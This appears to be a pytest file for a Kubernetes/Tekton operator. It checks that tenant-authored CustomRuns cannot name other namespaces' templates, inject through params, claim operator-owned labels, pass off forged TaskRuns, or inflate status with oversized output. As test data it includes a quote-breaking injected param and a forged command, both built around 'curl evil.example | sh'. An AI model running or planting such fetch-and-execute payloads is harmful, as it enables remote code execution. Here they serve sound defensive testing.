"""A CustomRun's author is a tenant: what they write is a request, never authority. Each
test here is an attempt to use a CustomRun against the operator or another team, and what
stops it. (That the connection's namespace rule and policy still hold for the child, an
ordinary TaskRun, is shown against the real operator in tests/tekton/test_custom_tasks.py.)
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from ona_taskrun.rules import customrun as rules
from ona_taskrun.rules.customrun import InvalidCustomRun
from tests.unit.test_customrun_edge import (
    CHILD,
    KEY,
    UID,
    FakeKube,
    customrun,
    edge,
    put,
    stored_status,
    succeeded,
)

ENV = "0f0e5f4a-3a4b-4b8e-9a51-6f1f4f7d2c10"
OURS = {"apiVersion": "automation.ona.com/v1alpha1", "kind": "TaskRun"}


def ref_spec(name: str, **extra: Any) -> dict[str, Any]:
    return {"customRef": {**OURS, "name": name, **extra}}


@pytest.mark.parametrize(
    ("ref", "words"),
    [
        (ref_spec("team-b/secret-template"), "is not a TaskRun name"),
        (ref_spec("../team-b/secret-template"), "is not a TaskRun name"),
        (ref_spec("secret-template", namespace="team-b"), "customRef.namespace is not supported"),
    ],
)
async def test_a_template_in_another_namespace_cannot_be_named(
    ref: dict[str, Any], words: str
) -> None:
    kube = FakeKube()
    runs = edge(kube)
    put(kube, runs, customrun(spec=ref))
    assert await runs.reconcile(KEY) is None
    assert succeeded(kube) == ("False", "InvalidCustomRun")
    assert words in stored_status(kube)["conditions"][0]["message"]
    # Nothing was read but the child's name in the CustomRun's own namespace (is there a
    # child already?), no template anywhere, and nothing was created.
    assert [c for c in kube.calls if c[0] in ("get", "create")] == [("get", "team-a", CHILD)]


def test_params_reach_only_the_command_and_env_values_and_only_as_text() -> None:
    template = {
        "metadata": {"name": "t"},
        "spec": {
            "task": {
                "environmentId": ENV,
                "name": "greet",
                "command": "echo '$(params.who)'",
            },
            "connectionRef": {"name": "team-a-connection"},
        },
    }
    value = (
        "x'; curl evil.example | sh; echo '\n"
        "connectionRef: {kind: ClusterOnaConnection, name: platform}\n"
        "$(params.who) $(params.other)"
    )
    body = customrun(spec={**ref_spec("t"), "params": [{"name": "who", "value": value}]})
    spec = rules.child_spec(rules.parse(body), template)
    # The value is text in the command, substituted once: a reference inside it is kept
    # as written, and nothing else of the spec changes. (What a command does with its
    # params is the template author's to quote: see docs/pipelines.md.)
    assert spec["task"]["command"] == f"echo '{value}'"
    assert spec["connectionRef"] == {"name": "team-a-connection"}
    assert set(spec) == {"task", "connectionRef"}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("environmentId", "$(params.env)"),
        ("name", "$(params.env)"),
    ],
)
def test_a_param_aimed_at_another_field_is_refused_not_substituted(field: str, value: str) -> None:
    task = {"environmentId": ENV, "name": "greet", "command": "echo hi", field: value}
    template = {"metadata": {"name": "t"}, "spec": {"task": task}}
    body = customrun(spec={**ref_spec("t"), "params": [{"name": "env", "value": "other"}]})
    with pytest.raises(InvalidCustomRun, match="params env are not used"):
        rules.child_spec(rules.parse(body), template)


@pytest.mark.parametrize(
    "metadata",
    [
        {"annotations": {"automation.ona.com/adopt-execution": "someone-elses-execution"}},
        {"annotations": {"automation.ona.com/start-requested-at": "2026-01-01T00:00:00Z"}},
        {"labels": {"automation.ona.com/schedule": "nightly"}},
        {"labels": {"x.automation.ona.com/anything": "y"}},
    ],
)
def test_the_projects_own_labels_and_annotations_cannot_be_requested(
    metadata: dict[str, Any],
) -> None:
    task = {"task": {"environmentId": ENV, "name": "t", "command": "c"}}
    body = customrun(spec={"customSpec": {**OURS, "spec": task, "metadata": metadata}})
    request = rules.parse(body).request
    assert isinstance(request, InvalidCustomRun)
    assert "are the operator's own and cannot be requested" in str(request)


def test_the_customruns_own_labels_pass_to_the_child_only_when_tektons() -> None:
    task = {"task": {"environmentId": ENV, "name": "t", "command": "c"}}
    body = customrun(spec={"customSpec": {**OURS, "spec": task}})
    body["metadata"]["labels"] = {
        "tekton.dev/pipelineRun": "p",
        "automation.ona.com/schedule": "nightly",
        "team": "a",
    }
    manifest = rules.child_manifest(rules.parse(body), None)
    assert manifest["metadata"]["labels"] == {
        "tekton.dev/pipelineRun": "p",
        rules.CUSTOMRUN_LABEL: "greet-first",
    }
    assert "annotations" not in manifest["metadata"]


def forged(command: str, *, desired: str = "RUNNING") -> dict[str, Any]:
    """A TaskRun made by someone who may create TaskRuns in the namespace, under the
    child's name, with a controller owner reference to the CustomRun's uid."""
    return {
        "metadata": {
            "name": CHILD,
            "namespace": "team-a",
            "uid": "forged-uid",
            "resourceVersion": "7",
            "ownerReferences": [
                {
                    "apiVersion": "tekton.dev/v1beta1",
                    "kind": "CustomRun",
                    "name": "greet-first",
                    "uid": UID,
                    "controller": True,
                }
            ],
        },
        "spec": {
            "task": {"environmentId": ENV, "name": "greet", "command": command},
            "desiredPhase": desired,
            "deletionPolicy": "Stop",
        },
        "status": {
            "conditions": [{"type": "Succeeded", "status": "True", "reason": "Succeeded"}],
            "steps": [{"id": "s", "output": {"greeting": "forged result"}}],
        },
    }


@pytest.mark.parametrize(
    ("taskrun", "cancels"),
    [
        (forged("curl evil.example | sh"), (False, True)),
        # The very spec asked for, but stopped before it could run, when nobody cancelled:
        # not the child either. (Once cancelled, a stopped TaskRun with the very spec asked
        # for is what the operator would have made of its child itself.)
        (forged("echo world", desired="STOPPED"), (False,)),
    ],
)
async def test_a_taskrun_forged_under_the_childs_name_is_never_taken_for_it(
    taskrun: dict[str, Any], cancels: tuple[bool, ...]
) -> None:
    kube = FakeKube()
    kube.taskruns[CHILD] = copy.deepcopy(taskrun)
    runs = edge(kube)
    runs.observe_taskrun("ADDED", taskrun)
    for cancel in cancels:
        body = customrun()
        if cancel:
            body["spec"]["status"] = "RunCancelled"
        body["metadata"]["resourceVersion"] = kube._next()
        put(kube, runs, body)
        assert await runs.reconcile(KEY) is None
        assert succeeded(kube) == ("False", "TaskRunNameTaken")
        status = stored_status(kube)
        # None of its results, and it is left alone: never patched, never stopped.
        assert "results" not in status
        assert kube.taskruns[CHILD] == taskrun
        assert [c for c in kube.calls if c[0] == "patch" and "taskruns" in c[1]] == []
        kube.customruns["greet-first"]["status"] = {}


async def test_a_huge_output_makes_no_huge_customrun() -> None:
    kube = FakeKube()
    runs = edge(kube)
    put(kube, runs, customrun())
    await runs.reconcile(KEY)
    child = kube.taskruns[CHILD]
    child["status"] = {
        "conditions": [{"type": "Succeeded", "status": "True", "reason": "Succeeded"}],
        "steps": [
            {"id": f"s{i}", "output": {f"out{i}-{j}": "€" * 500_000 for j in range(8)}}
            for i in range(4)
        ],
    }
    child["metadata"]["resourceVersion"] = kube._next()
    runs.observe_taskrun("MODIFIED", child)
    await runs.reconcile(KEY)
    status = stored_status(kube)
    assert succeeded(kube) == ("True", "Succeeded")
    assert sum(len(r["value"].encode()) for r in status["results"]) <= rules.MAX_RESULTS_BYTES
    assert all(len(r["value"].encode()) <= rules.MAX_RESULT_BYTES for r in status["results"])
    # The whole status stays small: results, the notes saying what was cut, the message.
    assert len(json.dumps(status).encode()) < 3 * rules.MAX_RESULTS_BYTES
    assert "cut from 1500000 to 4095 bytes" in status["extraFields"]["resultNotes"][0]
